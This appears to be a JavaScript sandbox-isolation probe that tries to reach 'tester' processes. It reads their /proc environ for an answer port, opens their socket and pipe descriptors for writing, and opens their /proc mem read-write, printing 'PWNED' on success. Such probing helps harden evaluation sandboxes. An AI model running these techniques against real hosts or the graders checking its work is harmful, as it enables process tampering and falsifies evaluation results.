/** Another process that runs the Node.js of testers. */
const isTester = (pid) => pid !== process.pid && fs.readlinkSync(`/proc/${pid}/exe`).endsWith("/sealed/node");
async function attack() {
  for (const pid of [1, process.ppid, ...pids()]) {
    if (pid === process.pid) continue;
    attempt(`environ ${pid}`, () => (read(`/proc/${pid}/environ`).includes("CONVEX_ANSWER_PORT") ? "PWNED, the answer's port" : "nothing"));
    for (let fd = 0; fd < 12; fd++)
      attempt(`fd ${pid} ${fd}`, () => {
        const file = `/proc/${pid}/fd/${fd}`;
        return /socket|pipe/.test(fs.readlinkSync(file)) && fs.openSync(file, "w") > 0 && isTester(pid) ? "PWNED, it can write" : "its own";
      });
    attempt(`mem ${pid}`, () => (fs.closeSync(fs.openSync(`/proc/${pid}/mem`, "r+")), isTester(pid) ? "PWNED" : "its own"));
  }
}
